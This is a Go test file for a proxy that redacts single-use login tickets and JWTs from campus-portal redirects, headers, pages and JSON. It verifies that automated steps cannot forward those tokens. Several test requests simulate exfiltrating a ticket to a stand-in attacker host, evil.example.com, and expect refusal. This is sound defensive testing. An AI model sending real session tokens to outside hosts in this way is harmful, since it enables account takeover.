package proxy

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/pkuinfo/harness/manifest"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// The portal hands the card service a one-time ticket in a redirect's
// query, and the card service answers with its JWT in the next one
// (../shared/campus/README.md, the card's login). Both are sessions in all
// but name: a step sees them only as the marker, cannot send them on, and
// the proxy itself still follows a same-origin hand-off.
func TestHandoffCredentialsInRedirects(t *testing.T) {
	const (
		ticket = "ST-20261130-Tk7qLmX9pW2vB4nR"
		jwt    = "eyJhbGciOiJIUzI1NiJ9.aGFuZC1vZmYtand0LTk5.hand0ffSig"
		inner  = "innerTicket-5f4e3d2c1b0a9988"
		frag   = "fragmentAccess-0123456789abcdef"
	)
	card := newRecorder(t, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/berserker-auth/cas/login/pku":
			http.Redirect(w, r, "/plat/?synjones-auth="+jwt+"&page=2", http.StatusFound)
		case "/plat/":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			w.Write([]byte(`<script>var t = "` + r.URL.Query().Get("synjones-auth") + `";</script><p>page ` + r.URL.Query().Get("page") + `</p>`))
		default:
			echo(w, r)
		}
	})
	portal := newRecorder(t, func(w http.ResponseWriter, r *http.Request) {
		target := card.URL + "/h5/?x=1&tk=" + inner
		loc := card.URL + "/berserker-auth/cas/login/pku?token=" + ticket + "&targetUrl=" + url.QueryEscape(target) + "#access_token=" + frag
		http.Redirect(w, r, loc, http.StatusFound)
	})
	attacker := newRecorder(t, echo)
	p := testProxy(t, card, portal, nil, Limits{}, nil)
	p.resolve["evil.example.com:80"] = attacker.Listener.Addr().String()
	acc := access("card", "portal")
	acc.Web = []manifest.Origin{webOrigin("http", "evil.example.com", 80)}
	call := p.NewCall("demo", acc)
	ctx := context.Background()

	// The cross-origin hand-off is not followed; its Location reaches the
	// step with every long parameter value redacted, short ones kept.
	resp, err := call.Do(ctx, &Request{Service: "portal", Path: "/portal2017/util/redirectToCard.do"})
	require.NoError(t, err)
	require.Equal(t, http.StatusFound, resp.Status)
	loc := resp.Header.Get("Location")
	for _, v := range []string{ticket, inner, frag, url.QueryEscape(ticket), url.QueryEscape(inner)} {
		assert.NotContains(t, loc, v)
	}
	assert.Contains(t, loc, Marker)
	assert.Contains(t, loc, "/berserker-auth/cas/login/pku?token=")
	assert.Empty(t, card.Hits(), "a cross-origin redirect is never followed")

	// A step that tries to use or send the ticket is refused before
	// anything leaves, whatever it rebuilt it from.
	for _, r := range []*Request{
		{Service: "card", Path: "/berserker-auth/cas/login/pku", Query: url.Values{"token": {ticket}}},
		{URL: "http://evil.example.com/c", Query: url.Values{"t": {ticket}}},
		{URL: "http://evil.example.com/c", Method: "POST", Body: []byte(`{"t":"` + inner + `"}`)},
		{URL: "http://evil.example.com/c/" + frag},
	} {
		_, err := call.Do(ctx, r)
		require.ErrorIs(t, err, ErrRefused, "%+v", r)
	}
	assert.Empty(t, card.Hits())
	assert.Equal(t, int64(0), attacker.n.Load())

	// A same-origin hand-off is followed by the proxy with the token (the
	// server needs it); the step sees neither the token in the final URL
	// nor the page that echoes it, while short values stay readable.
	call2 := p.NewCall("demo", acc)
	resp, err = call2.Do(ctx, &Request{Service: "card", Path: "/berserker-auth/cas/login/pku"})
	require.NoError(t, err)
	require.Equal(t, http.StatusOK, resp.Status)
	hits := card.Hits()
	require.Len(t, hits, 2)
	assert.Contains(t, hits[1].RawQuery, "synjones-auth="+jwt, "the proxy followed the hand-off as it came")
	assert.NotContains(t, resp.URL, jwt)
	assert.Contains(t, resp.URL, "page=2")
	assert.NotContains(t, string(resp.Body), jwt)
	assert.Contains(t, string(resp.Body), `var t = "`+Marker+`"`)
	assert.Contains(t, string(resp.Body), "page 2")
	for _, s := range []string{resp.URL, string(resp.Body)} {
		assertNoSecret(t, "response", s)
	}
}

// Short values and URLs are not hand-off credentials: a redirect to the
// next page of a listing stays readable.
func TestHandoffLeavesOrdinaryRedirects(t *testing.T) {
	portal := newRecorder(t, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "https://elsewhere.example.edu.cn/list?page=3&size=20&sort=date&from=2026-11-01&back="+url.QueryEscape("https://x.example.cn/a?b=c"), http.StatusFound)
	})
	p := testProxy(t, nil, portal, nil, Limits{}, nil)
	call := p.NewCall("demo", access("portal"))
	resp, err := call.Do(context.Background(), &Request{Service: "portal", Path: "/list"})
	require.NoError(t, err)
	loc := resp.Header.Get("Location")
	assert.False(t, strings.Contains(loc, Marker), loc)
	assert.Contains(t, loc, "from=2026-11-01")
}

// Hand-offs in any form are the proxy's: a ticket or token in any header
// (Refresh, Location on a 201 or unparseable, Content-Location, Link, a
// header named for a token), any Location form (a ticket in the path, a
// bare query, a fragment route), a page's meta refresh, a script's
// navigation, an auto-posting form's hidden inputs, or a JSON field named
// for a token, is registered as a credential before the step sees the
// answer: the step sees the marker, and cannot send the value anywhere.
func TestHandoffsInAnyForm(t *testing.T) {
	tk := func(i int) string { return fmt.Sprintf("HandOff%02d-9f8e7d6c5b4a3210", i) }
	type answer struct {
		status int
		header map[string]string
		ctype  string
		body   string
	}
	answers := map[string]answer{
		"/refresh":   {200, map[string]string{"Refresh": "0; url=https://elsewhere.example/h5?token=" + tk(1)}, "", ""},
		"/created":   {201, map[string]string{"Location": "/x?ticket=" + tk(2)}, "", ""},
		"/badloc":    {302, map[string]string{"Location": "http://[::1/%zz?token=" + tk(3)}, "", ""},
		"/path":      {302, map[string]string{"Location": "https://elsewhere.example/cas/" + tk(4) + "/next"}, "", ""},
		"/bare":      {302, map[string]string{"Location": "https://elsewhere.example/land?" + tk(5)}, "", ""},
		"/frag":      {302, map[string]string{"Location": "https://elsewhere.example/app#/x?token=" + tk(6) + "&page=2"}, "", ""},
		"/clocation": {200, map[string]string{"Content-Location": "/y?access_token=" + tk(7)}, "", ""},
		"/link":      {200, map[string]string{"Link": `<https://elsewhere.example/n?ticket=` + tk(8) + `>; rel="next"`}, "", ""},
		"/xhdr":      {200, map[string]string{"X-Auth-Token": tk(9)}, "", ""},
		"/status":    {303, map[string]string{"Location": "weird:opaque?jwt=" + tk(10)}, "", ""},
		"/meta": {200, nil, "text/html", `<html><head><META HTTP-EQUIV="Refresh" CONTENT="0;URL=https://elsewhere.example/go?tk=` + tk(11) +
			`"></head><body>` + tk(11) + `</body></html>`},
		"/script": {200, nil, "text/html", `<script>location.href = "https://e.example/a?token=` + tk(12) + `";
			window.location='https://e.example/b?x=` + tk(13) + `'; location.replace("\/c?ticket=` + tk(14) + `")</script>`},
		"/form": {200, nil, "text/html", `<form id="f" method="post" action="https://card.example/cassyno/index?s=` + tk(15) + `">` +
			`<input type="hidden" name="ssoticketid" value="` + tk(16) + `"><input type=hidden name=errorcode value=0></form>` +
			`<script>document.getElementById('f').submit()</script>`},
		"/json":     {200, nil, "application/json", `{"success":true,"token":"` + tk(17) + `","data":{"access_token":"` + tk(18) + `","page":"1"}}`},
		"/jsonw":    {200, nil, "text/plain", `{"success":true,"JWT": "` + tk(19) + `"}`},
		"/open":     {200, nil, "text/html", "<script>window.open\t(\"https://e.example/w?ticket=" + tk(20) + "\")</script>"},
		"/metacase": {200, nil, "text/html", `<mEtA http-equiv="rEfReSh" content="0;url=https://elsewhere.example/go?tk=` + tk(21) + `">`},
		"/formcase": {200, nil, "text/html", `<FoRm id="f" method="post" action="https://card.example/x"><input type="hidden" name="ssoticketid" value="` + tk(22) + `"></FoRm>` +
			`<script>document.forms[0].submit()</script>`},
	}
	portal := newRecorder(t, func(w http.ResponseWriter, r *http.Request) {
		a := answers[r.URL.Path]
		for k, v := range a.header {
			w.Header()[k] = []string{v}
		}
		if a.ctype != "" {
			w.Header().Set("Content-Type", a.ctype)
		}
		w.WriteHeader(a.status)
		w.Write([]byte(a.body + "\nechoed: " + tk(indexOf(r.URL.Path))))
	})
	attacker := newRecorder(t, echo)
	p := testProxy(t, nil, portal, nil, Limits{}, nil)
	p.resolve["evil.example.com:80"] = attacker.Listener.Addr().String()
	acc := access("portal")
	acc.Web = []manifest.Origin{webOrigin("http", "evil.example.com", 80)}
	ctx := context.Background()
	for path := range answers {
		call := p.NewCall("demo", acc)
		resp, err := call.Do(ctx, &Request{Service: "portal", Path: path})
		require.NoError(t, err, path)
		seen := resp.URL + "\n" + string(resp.Body)
		for k, vs := range resp.Header {
			seen += "\n" + k + ": " + strings.Join(vs, ",")
		}
		for i := 1; i <= 22; i++ {
			assert.NotContains(t, seen, tk(i), path)
		}
		assert.Contains(t, seen, Marker, path)
		n := indexOf(path)
		assert.True(t, p.red.knows(tk(n)), "registered as sent: %s", path)
		_, err = call.Do(ctx, &Request{URL: "http://evil.example.com/c", Query: url.Values{"t": {tk(n)}}})
		require.ErrorIs(t, err, ErrRefused, path)
	}
	assert.Equal(t, int64(0), attacker.n.Load(), "no hand-off reached the attacker")
	// Short values beside them stay readable.
	resp, err := p.NewCall("demo", acc).Do(ctx, &Request{Service: "portal", Path: "/json"})
	require.NoError(t, err)
	assert.Contains(t, string(resp.Body), `"page":"1"`)
	resp, err = p.NewCall("demo", acc).Do(ctx, &Request{Service: "portal", Path: "/form"})
	require.NoError(t, err)
	assert.Contains(t, string(resp.Body), `value=0`)
	resp, err = p.NewCall("demo", acc).Do(ctx, &Request{Service: "portal", Path: "/frag"})
	require.NoError(t, err)
	assert.Contains(t, resp.Header.Get("Location"), "page=2")
}

// indexOf maps a test path of TestHandoffsInAnyForm to the ticket its
// answer echoes in the body.
func indexOf(path string) int {
	return map[string]int{"/refresh": 1, "/created": 2, "/badloc": 3, "/path": 4, "/bare": 5, "/frag": 6, "/clocation": 7,
		"/link": 8, "/xhdr": 9, "/status": 10, "/meta": 11, "/script": 12, "/form": 16, "/json": 17, "/jsonw": 19, "/open": 20,
		"/metacase": 21, "/formcase": 22}[path]
}

// Values the step chose are never registered as credentials: a campus
// redirect whose Location repeats the step's own query (or path) must not
// turn the step's value into a "credential", whose marker would then
// answer the step's questions.
func TestStepValuesAreNotHandoffs(t *testing.T) {
	const (
		guess = "stepChosenGuess-0123456789abcdef"
		seg   = "StepSegment0123456789abcdef"
	)
	portal := newRecorder(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Echo", "q="+r.URL.Query().Get("q"))
		http.Redirect(w, r, "https://elsewhere.example/results?q="+url.QueryEscape(r.URL.Query().Get("q"))+
			"&token="+r.URL.Query().Get("q")+"&p="+strings.TrimPrefix(r.URL.Path, "/a/"), http.StatusFound)
	})
	p := testProxy(t, nil, portal, nil, Limits{}, nil)
	call := p.NewCall("demo", access("portal"))
	resp, err := call.Do(context.Background(), &Request{Service: "portal", Path: "/a/" + seg, Query: url.Values{"q": {guess}}})
	require.NoError(t, err)
	assert.Contains(t, resp.Header.Get("Location"), "q="+guess)
	assert.Contains(t, resp.Header.Get("Location"), "p="+seg)
	assert.Equal(t, "q="+guess, resp.Header.Get("X-Echo"))
	assert.Equal(t, guess, call.Redact(guess), "the step's own value is no credential")
	assert.Equal(t, seg, call.Redact(seg))
	assert.False(t, p.red.knows(guess))
}
